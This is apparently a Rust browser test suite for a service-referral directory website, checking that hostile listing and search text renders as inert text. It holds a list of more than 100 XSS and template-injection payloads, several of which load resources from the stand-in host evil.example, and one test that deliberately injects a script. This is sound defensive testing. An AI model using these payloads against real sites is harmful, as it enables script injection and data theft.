//! Text that agencies publish and people type is text: it runs nothing and asks for nothing.

use std::collections::BTreeSet;

use fantoccini::Locator;
use fantoccini::error::CmdError;
use referral_core::catalog::Record;
use referral_core::text::{Name, Text};

use crate::browser::{Browser, Scripts};
use crate::listing::Listing;
use crate::operator::operator;
use crate::routes::routes;
use crate::site::Site;

/// What would run in a page that let it; more is in [`payloads`].
const PAYLOADS: [&str; 24] = [
    "<script>alert(1)</script>",
    "</h3><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><img src=//evil.example/x.png>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x></object>",
    "<form action=//evil.example/><button>Search</button></form>",
    "<details open ontoggle=alert(1)>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;<!--",
];

/// What leads out of where a text may stand, and what does harm there.
const OUT: [&str; 12] = [
    "\">",
    "'>",
    "` ",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "</a></h3></article>",
    "\u{1f600}",
];
const INTO: [&str; 7] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=//evil.example/x.mp4 onerror=alert(1)>",
];

/// Each of them once.
fn payloads() -> Vec<String> {
    let pairs = OUT
        .iter()
        .flat_map(|out| INTO.map(|into| format!("{out}{into}")));
    let all: BTreeSet<String> = pairs.chain(PAYLOADS.map(str::to_owned)).collect();
    assert!(all.len() >= 100, "{} payloads", all.len());
    all.into_iter().collect()
}

/// A directory with a service for each payload, which stands in every text of it.
fn poisoned(payloads: &[String]) -> Site {
    let listings: Vec<Listing> = (0..payloads.len())
        .map(|n| {
            Listing::new(&format!("s{n}"), &format!("hostile {n}")).at("100 Light St", "21202")
        })
        .collect();
    Site::of_changed(&listings, |record| poison(record, payloads))
}

async fn see(browser: &Browser, site: &Site, path: &str) {
    let url = format!("{}{path}", site.url);
    browser.open(&url).await;
    stays_quiet(browser, site).await;
}

#[tokio::test]
async fn hostile_listings_run_nothing_and_ask_for_nothing() {
    let payloads = payloads();
    let site = poisoned(&payloads);
    let browser = Browser::start().await;

    // What would help names the best of them; then all of them, page after page.
    see(&browser, &site, "/?near=21202").await;
    see(&browser, &site, "/?near=21202&availability=any").await;
    let mut shown = browser.texts("#answer article h3").await;
    while shown.len() < payloads.len() {
        let next = browser.wait_for("button[name=page]").await;
        next.click().await.expect("a click");
        let first = format!(
            "//p[@role='status'][contains(., '{} to ')]",
            shown.len() + 1
        );
        browser.wait(Locator::XPath(&first)).await;
        stays_quiet(&browser, &site).await;
        shown.extend(browser.texts("#answer article h3").await);
    }
    shown.sort_unstable();
    assert_eq!(shown, payloads, "each is shown as it was written");
    for number in 0..payloads.len() {
        see(&browser, &site, &format!("/service/harbor/s{number}")).await;
    }
}

#[tokio::test]
async fn no_page_runs_what_is_in_a_listing_whoever_looks() {
    let payloads = payloads();
    let site = poisoned(&payloads);
    let pages = [
        "/travel?near=21202&availability=any",
        "/handout?near=21202&availability=any&write=en",
        "/handout?near=21202&availability=any&write=ar",
        "/pack?near=21202",
        "/service/harbor/s0",
        "/operator/agency/harbor",
        "/coverage?state=MD",
        "/coverage/county/24510",
    ];
    let anybody = Browser::start().await;
    let operator = operator(site.directory(), "ana@example.org", Scripts::On).await;
    for browser in [&anybody, &operator] {
        let _earlier = (browser.complaints().await, browser.requests().await);
        for path in routes("directory-server/src/web") {
            // Files that a browser keeps, an answer that never ends, and one that leads to another host.
            let is_page = !path.contains('.') && path != "/live" && path != "/sign-in/provider";
            if is_page {
                let url = format!("{}{path}", site.url);
                browser.open(&url).await;
                asks_nobody_else(browser, &site).await;
            }
        }
        for page in pages {
            see(browser, &site, page).await;
        }
    }
}

#[tokio::test]
async fn hostile_searches_run_nothing_and_ask_for_nothing() {
    let site = Site::empty();
    let browser = Browser::start().await;
    for payload in PAYLOADS {
        let mut url = url::Url::parse(&site.url).expect("an address");
        for field in [
            "need",
            "near",
            "radius",
            "text",
            "serves",
            "language",
            "availability",
            "access",
            "fee",
            "age",
            "custody",
            "nationality",
            "filter",
            "page",
        ] {
            url.query_pairs_mut().append_pair(field, payload);
        }
        browser.open(url.as_str()).await;
        stays_quiet(&browser, &site).await;
        assert_eq!(browser.value("#text").await, payload);
    }
}

#[tokio::test]
async fn the_check_itself_sees_a_script_a_dialog_and_a_stranger() {
    let site = Site::empty();
    let browser = Browser::start().await;
    browser.open(&site.url).await;
    let _earlier = (browser.complaints().await, browser.requests().await);
    let spoil = "const script = document.createElement('script');\
                 script.textContent = 'alert(1)';\
                 document.body.append(script)";
    let spoilt = browser.page.execute(spoil, Vec::new()).await;
    spoilt.expect("the page is spoilt");
    let complaints = browser.complaints().await.join("\n");
    assert!(
        complaints.contains("Content Security Policy"),
        "{complaints}"
    );

    let bad = "data:text/html,<img src=http://evil.example/x.png><script>alert(2)</script>";
    browser.page.goto(bad).await.expect("a page");
    let dialog = browser.page.get_alert_text().await;
    assert_eq!(dialog.expect("a dialog"), "2");
    browser.page.dismiss_alert().await.expect("it is closed");
    let requests = browser.requests().await.join("\n");
    assert!(requests.contains("evil.example"), "{requests}");
}

/// No dialog, no refused script or picture, no request to anybody else; and it is a page.
async fn stays_quiet(browser: &Browser, site: &Site) {
    let requests = asks_nobody_else(browser, site).await;
    assert!(
        requests.iter().any(|url| url.ends_with("/style.css")),
        "{requests:?}"
    );
}

/// The same of any answer. Gives what it asked for.
async fn asks_nobody_else(browser: &Browser, site: &Site) -> Vec<String> {
    let dialog = browser.page.get_alert_text().await;
    assert!(
        matches!(&dialog, Err(CmdError::Standard(error)) if error.error() == "no such alert"),
        "{dialog:?}"
    );
    let complaints = browser.complaints().await;
    let complaints: Vec<&String> = complaints
        .iter()
        .filter(|complaint| !complaint.contains("the server responded with a status of 4"))
        .collect();
    assert!(complaints.is_empty(), "{complaints:#?}");
    let requests = browser.requests().await;
    let strangers: Vec<&String> = requests
        .iter()
        // What the browser itself draws, such as the calendar of a date, is nobody else.
        .filter(|url| !url.starts_with(&site.url) && !url.starts_with("data:"))
        .collect();
    assert!(strangers.is_empty(), "{strangers:?}");
    requests
}

/// Puts a payload into every text of a record.
fn poison(record: &mut Record, payloads: &[String]) {
    let number = |id: &str| id.trim_start_matches('s').parse::<usize>();
    let payload = &payloads[number(record.id().as_str()).expect("a number") % payloads.len()];
    let name = Name::parse(payload).expect("a name");
    let text = Text::parse(payload).expect("a text");
    match record {
        Record::Organization(organization) => {
            organization.name = name;
            organization.description = Some(text);
        }
        Record::Location(location) => {
            location.name = Some(name.clone());
            if let referral_core::catalog::Place::Approximate { address, .. } = &mut location.place
            {
                address.address_1 = Some(name.clone());
                address.address_2 = Some(name);
            }
        }
        Record::Service(service) => {
            service.name = name;
            service.description = Some(text.clone());
            service.alert = Some(text.clone());
            service.eligibility_description = Some(text.clone());
            service.application_process = Some(text.clone());
            service.fees_description = Some(text);
        }
    }
}
